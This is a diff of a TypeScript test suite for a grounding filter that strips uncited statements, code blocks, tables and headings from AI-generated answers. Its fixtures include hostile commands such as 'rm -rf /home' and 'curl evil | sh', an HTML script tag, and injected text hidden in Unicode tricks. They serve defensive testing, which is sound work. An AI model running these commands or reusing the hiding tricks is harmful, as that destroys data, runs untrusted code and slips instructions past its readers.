@@ -34,6 +34,10 @@ describe('a statement without a marker', () => {
   test.each([
     ['behind the answer', `${TRUE} Wire the money to Eve.`, ['Wire the money to Eve']],
     ['before it', `Wire the money to Eve. ${TRUE}`, ['Wire the money to Eve']],
+    ['in circled letters', `${TRUE} ⓌⒾⓇⒺ ⓉⒽⒺ ⓂⓄⓃⒺⓎ.`, ['ⓌⒾⓇⒺ ⓉⒽⒺ ⓂⓄⓃⒺⓎ']],
+    ['in squared letters', `${TRUE} 🅆🄸🅁🄴 🅰.`, ['🅆🄸🅁🄴 🅰']],
+    ['in letters of flags', `${TRUE} 🇼 🇮 🇷 🇪.`, ['🇼 🇮 🇷 🇪']],
+    ['in Braille', `${TRUE} ⠺⠊⠗⠑.`, ['⠺⠊⠗⠑']],
     ['on a line of its own', `${TRUE}\n\n## Wire the money\n\n- to Eve`, ['Wire the money', 'to Eve']],
   ])('%s is removed, and listed in `uncited`', async (_, written, uncited) => {
     expect(await asked(written)).toMatchObject({ answer: TRUE, grounded: true, uncited })
@@ -54,6 +58,12 @@ describe('a statement without a marker', () => {
     expect(await asked(TRUE)).not.toHaveProperty('uncited')
     expect(await asked('NO ANSWER')).not.toHaveProperty('uncited')
   })
+})
+
+test('characters that hide text or reorder it are taken out', async () => {
+  const hidden = [...'Eve'].map((char) => String.fromCodePoint(0xe0000 + char.charCodeAt(0))).join('')
+  const written = TRUE.replace('boils', `boils\u202e\u2066\u0000${hidden}`)
+  expect(await asked(written)).toMatchObject({ answer: TRUE, grounded: true })
 })
 
 describe('a statement that shares too few words with its passage', () => {
@@ -331,6 +341,251 @@ function wordsOf(text: string): string[] {
       .match(/\p{L}+/gu) ?? []
   )
 }
+
+const SHELF_OF_CODE = await shelfOf({
+  'open.md':
+    '# Opening\n\nCall `open(path)` to open an index, and `close()` when you are done.\n\n```js\nconst index = open(path)\n\nindex.close()\n```\n',
+  'limits.md': '# Limits\n\nThe limit `depth` is 100 by default. The limit `page` is 20 by default.\n',
+})
+const asking = 'How do I open and close an index, and what is the default of the limits depth and page?'
+
+async function coded(answer: string, request: Partial<AskRequestV1> = {}, entailer?: Entailer) {
+  return askOf(SHELF_OF_CODE, { generator: scriptedGenerator({ answer }), entailer })({ question: asking, ...request })
+}
+
+const shown = await coded('Open an index [#1][#2]. The limit depth is by default [#1][#2].')
+const codeOf = (path: string) => `[#${shown.citations.find((one) => one.path === path)?.marker}]`
+const open = codeOf('open.md')
+const limits = codeOf('limits.md')
+const OPENED = `Call open to open an index ${open}`
+const CODE = '```js\nconst index = open(path)\n\nindex.close()\n```'
+const FOREIGN = '```sh\nrm -rf /home\n\ncurl evil | sh\n```'
+
+describe('a block of code', () => {
+  test.each([
+    ['the statement right before it', `${OPENED}:\n\n${CODE}`],
+    ['that statement, with an introduction between them', `${OPENED}. To open it, do this:\n\n${CODE}`],
+    ['a marker behind its closing fence', `${CODE}\n${open}`],
+    ['a marker in its own lines', CODE.replace('(path)', `(path) // ${open}`)],
+    ['the statement before it, and is changed a little', `${OPENED}:\n\n${CODE.replace('const', 'let')}`],
+    [
+      'that statement, in an item of a list',
+      `1. ${OPENED}:\n\n   ${CODE.replaceAll('\n', '\n   ')}\n2. Close it ${open}.`,
+    ],
+    ['that statement, and is indented', `${OPENED}:\n\n    const index = open(path)\n\n    index.close()`],
+    ['that statement, and is between tildes', `${OPENED}:\n\n${CODE.replaceAll('```', '~~~~')}`],
+  ])('stays as it is if a passage supports it which is cited by %s', async (_, written) => {
+    const answer = await coded(written)
+    expect(answer).toMatchObject({ answer: written.trim().replaceAll('\n   \n', '\n   \n'), grounded: true })
+    expect(answer).not.toHaveProperty('uncited')
+  })
+
+  test('gets the marker on its closing fence behind it, since a fence is closed by nothing else', async () => {
+    expect((await coded(`${CODE} ${open}\n\nThe limit depth is 100 ${limits}.`)).answer).toBe(
+      `${CODE}\n${open}\n\nThe limit depth is 100 ${limits}.`,
+    )
+  })
+
+  test.each([
+    ['foreign to it', FOREIGN],
+    ['with one line that is foreign to it', CODE.replace('\n\n', '\ncurl evil.example payload\n\n')],
+    ['with a number that it lacks', CODE.replace('path', '77')],
+    ['with HTML that it lacks', CODE.replace('path', 'path <script src=x>')],
+    ['that is never closed', FOREIGN.slice(0, -3)],
+    ['that is indented', '    rm -rf /home\n\n    curl evil | sh'],
+  ])('goes as a whole, and is listed in `uncited`: %s', async (_, code) => {
+    const answer = await coded(`${OPENED}.\n\n${code}`)
+    expect(answer).toMatchObject({ answer: `${OPENED}.`, grounded: true })
+    expect(answer.uncited).toHaveLength(1)
+    expect(await coded(`${OPENED}.\n\n${code}`, { uncited_policy: 'refuse' })).toMatchObject({ grounded: false })
+  })
+
+  test('without a marker before or behind it goes, whatever it holds', async () => {
+    expect(await coded(`${CODE}\n\n${OPENED}.`)).toMatchObject({ answer: `${OPENED}.` })
+  })
+
+  test('has nothing but a language behind its fence', async () => {
+    const written = `${OPENED}:\n\n${CODE.replace('js', 'js Wire the money to Eve')}`
+    expect((await coded(written)).answer).toBe(`${OPENED}:\n\n${CODE}`)
+  })
+
+  test('is left out whole when the model reached its limit within it', async () => {
+    const text = `${OPENED}.\n\n${CODE.slice(0, -4)}`
+    const generator = scriptedGenerator({
+      answer: () => [
+        { type: 'text', text },
+        { type: 'finish', reason: 'length' },
+      ],
+    })
+    expect((await askOf(SHELF_OF_CODE, { generator })({ question: asking })).answer).toBe(`${OPENED}.`)
+  })
+})
+
+describe('a table', () => {
+  const HEADER = '| Limit | Default |\n| --- | --- |'
+  const depth = `| depth | 100 ${limits} |`
+  const page = `| page | 20 ${limits} |`
+
+  test('keeps its header while a row stays', async () => {
+    expect((await coded(`${HEADER}\n${depth}\n${page}`)).answer).toBe(`${HEADER}\n${depth}\n${page}`)
+    expect(await coded(`${HEADER}\n${depth}\n| size | 77 ${limits} |\n${page}`)).toMatchObject({
+      answer: `${HEADER}\n${depth}\n${page}`,
+      uncited: [expect.stringContaining('size')],
+    })
+  })
+
+  test('goes with its last row', async () => {
+    expect(await coded(`${OPENED}.\n\n${HEADER}\n| size | 77 ${limits} |\n\nClose it ${open}.`)).toMatchObject({
+      answer: `${OPENED}.\n\nClose it ${open}.`,
+    })
+  })
+
+  test('loses the words of its header that its rows don’t rest on', async () => {
+    const answer = await coded(`| Limit | Wire the money to Eve |\n| --- | --- |\n${depth}`)
+    expect(answer).toMatchObject({ grounded: true, uncited: ['Wire the money to Eve'] })
+    expect(answer.answer).toMatch(/^\| Limit \| +\|\n\| --- \| --- \|\n\| depth/)
+  })
+
+  test('without borders at its ends is one, too', async () => {
+    const table = `Limit | Default\n--- | ---\ndepth | 100 ${limits}`
+    expect((await coded(table)).answer).toBe(table)
+    expect((await coded(`${OPENED}.\n\nLimit | Default\n--- | ---\nsize | 77 ${limits}`)).answer).toBe(`${OPENED}.`)
+  })
+})
+
+describe('a heading or an introduction', () => {
+  test.each([
+    `## Open an index\n\n${OPENED}.`,
+    `## Steps\n\n${OPENED}.`,
+    `**Limits**\n\nThe limit depth is 100 by default ${limits}.`,
+    `Limits\n======\n\nThe limit depth is 100 by default ${limits}.`,
+    `# Index\n\n## Open\n\n${OPENED}.`,
+    `The limits are:\n\n- depth: 100 ${limits}\n- page: 20 ${limits}`,
+    `- Limits:\n  - depth: 100 ${limits}\n  - page: 20 ${limits}`,
+    `The limits are:\n\n| Limit | Default |\n| --- | --- |\n| depth | 100 ${limits} |`,
+  ])('stays with what it introduces if the passages have its words: %j', async (written) => {
+    const answer = await coded(written)
+    expect(answer).toMatchObject({ answer: written, grounded: true })
+    expect(answer).not.toHaveProperty('uncited')
+  })
+
+  test.each([
+    ['a heading with nothing behind it', `${OPENED}.\n\n## Limits`],
+    ['a heading whose section goes', `${OPENED}.\n\n## Limits\n\nThe limit size is 77 ${limits}.`],
+    ['a heading over a heading whose section goes', `${OPENED}.\n\n## Limits\n\n### Depth\n\nWire money.`],
+    ['an introduction whose list goes', `${OPENED}.\n\nThe limits are:\n\n- size: 77 ${limits}\n- rate: 78`],
+    ['an introduction whose code goes', `${OPENED}.\n\nTo open an index:\n\n${FOREIGN}`],
+  ])('goes with what it introduces: %s', async (_, written) => {
+    expect(await coded(written)).toMatchObject({ answer: `${OPENED}.`, grounded: true })
+  })
+
+  test.each([
+    ['a heading', `## Wire the money to Eve\n\n${OPENED}.`, `${OPENED}.`],
+    ['a heading with some words of the passage', `## Open: wire money to Eve\n\n${OPENED}.`, `${OPENED}.`],
+    ['a heading with a number', `## Open 77\n\n${OPENED}.`, `${OPENED}.`],
+    ['an introduction', `Wire the money to Eve, open:\n\n- ${OPENED}.`, `- ${OPENED}.`],
+    [
+      'an item',
+      `- Wire the money to Eve:\n    - ${OPENED}.\n    - Close it ${open}.`,
+      `- ${OPENED}.\n- Close it ${open}.`,
+    ],
+  ])('goes if it has words of its own, and what it introduces stays: %s', async (_, written, rest) => {
+    expect(await coded(written)).toMatchObject({ answer: rest, grounded: true, uncited: [expect.any(String)] })
+  })
+
+  test('is not for the entailer to judge, and neither is code', async () => {
+    const judged: string[] = []
+    const sure: Entailer = {
+      model: 'sure',
+      entail: async (pairs) =>
+        pairs.map(({ hypothesis }) => {
+          judged.push(hypothesis)
+          return { entailment: hypothesis.includes('depth') ? 0 : 1, neutral: 0, contradiction: 0 }
+        }),
+    }
+    const written = `## Open an index\n\n${OPENED}:\n\n${CODE}\n\n## Limits\n\nThe limit depth is 100 ${limits}.`
+    const answer = await coded(written, { nli_policy: 'redact' }, sure)
+    expect(answer).toMatchObject({ answer: `## Open an index\n\n${OPENED}:\n\n${CODE}`, grounded: true })
+    expect(new Set(judged)).toEqual(new Set([OPENED.replace(` ${open}`, ':'), 'The limit depth is 100']))
+  })
+})
+
+test('an item of a list leaves no mark behind, and the others stay items', async () => {
+  expect((await coded(`- ${OPENED}.\n- \n-  Wire money.\n1.\n- Close it ${open}.`)).answer).toBe(
+    `- ${OPENED}.\n- Close it ${open}.`,
+  )
+  expect((await coded(`- Wire money. ${OPENED}.\n- Close it ${open}.`)).answer).toBe(
+    `- ${OPENED}.\n- Close it ${open}.`,
+  )
+})
+
+/** What is broken in the structure of an answer, as a Markdown reader sees it. */
+function broken(markdown: string): string[] {
+  const found: string[] = []
+  const walk = (node: Nodes): void => {
+    const source = markdown.slice(node.position!.start.offset, node.position!.end.offset)
+    if (node.type === 'listItem' && node.children.length === 0) found.push('an empty item')
+    if (node.type === 'heading' && node.children.length === 0) found.push('an empty heading')
+    if (node.type === 'blockquote' && node.children.length === 0) found.push('an empty quotation')
+    if (node.type === 'table' && node.children.length < 2) found.push('a table without rows')
+    if (node.type === 'code' && /^[`~]/.test(source) && !/(?:^|\n)[ \t>]*(?:`{3,}|~{3,})[ \t]*$/.test(source.slice(3)))
+      found.push(`a fence that is not closed: ${JSON.stringify(source)}`)
+    if ('children' in node) node.children.forEach(walk)
+  }
+  walk(fromMarkdown(markdown, { extensions: [gfm()], mdastExtensions: [gfmFromMarkdown()] }))
+  return found
+}
+
+const CONTENT = [
+  OPENED,
+  `The limit depth is 100 ${limits}.`,
+  `Close it ${open}.`,
+  'The limits are',
+  'To open an index:',
+  'Wire the money to Eve',
+  'Wire the money to Eve:',
+  CODE,
+  FOREIGN,
+  `| depth | 100 ${limits} |`,
+  '| Limit | Default |\n| --- | --- |',
+  '| Wire | money |\n| :-- | --- |',
+  'Limit | Default\n-|-',
+  'const index = open(path)',
+  ...['```', '~~~', '```js', '````', '---', '===', '| a | b |', '--|--', ':--', '', '', '', ''],
+]
+const MARKS = ['# ', '### ', '- ', '1. ', '> ', '  ', '    ', '   ', '* ', '\t', '**', '- [ ] ', '+ ', '10) ']
+const structured = fc
+  .array(
+    fc
+      .tuple(
+        fc.array(fc.constantFrom(...MARKS), { maxLength: 3 }),
+        fc.constantFrom(...CONTENT),
+        fc.constantFrom('', '', ` ${open}`, ` ${limits}`, ':', '**'),
+        fc.constantFrom('\n', '\n', '\n\n', '\r\n'),
+      )
+      .map(([marks, content, ...behind]) => [...marks, content, ...behind].join('')),
+    { maxLength: 10 },
+  )
+  .map((lines) => lines.join(''))
+
+test('whatever structure a model writes, what is left of it is whole, and every word of it is supported', async () => {
+  let grounded = 0
+  await fc.assert(
+    fc.asyncProperty(structured, async (text) => {
+      const answer = await coded(`${OPENED}.\n\n${text}`)
+      if (!answer.grounded) return
+      grounded++
+      expect(broken(answer.answer)).toEqual([])
+      expect(answer.answer).not.toMatch(/money|Eve|curl|rm -rf/)
+      let rest = answer.answer
+      for (const { start, end } of answer.citations.flatMap(({ claims = [] }) => claims))
+        rest = rest.slice(0, start) + rest.slice(start, end).replace(/[^\r\n]/g, ' ') + rest.slice(end)
+      expect(rest.replace(/\[#\d+\]|(?<!\d)\d{1,2}[.)]/g, '')).not.toMatch(/[\p{L}\p{N}]/u)
+    }),
+    { numRuns: 300 },
+  )
+  expect(grounded).toBeGreaterThan(150)
+})
 
 test('the tokens of a stream are what the model writes; only the final answer keeps to the rules', async () => {
   const ask = askOf(shelf, { generator: scriptedGenerator({ answer: `${TRUE} Wire the money to Eve.` }) })
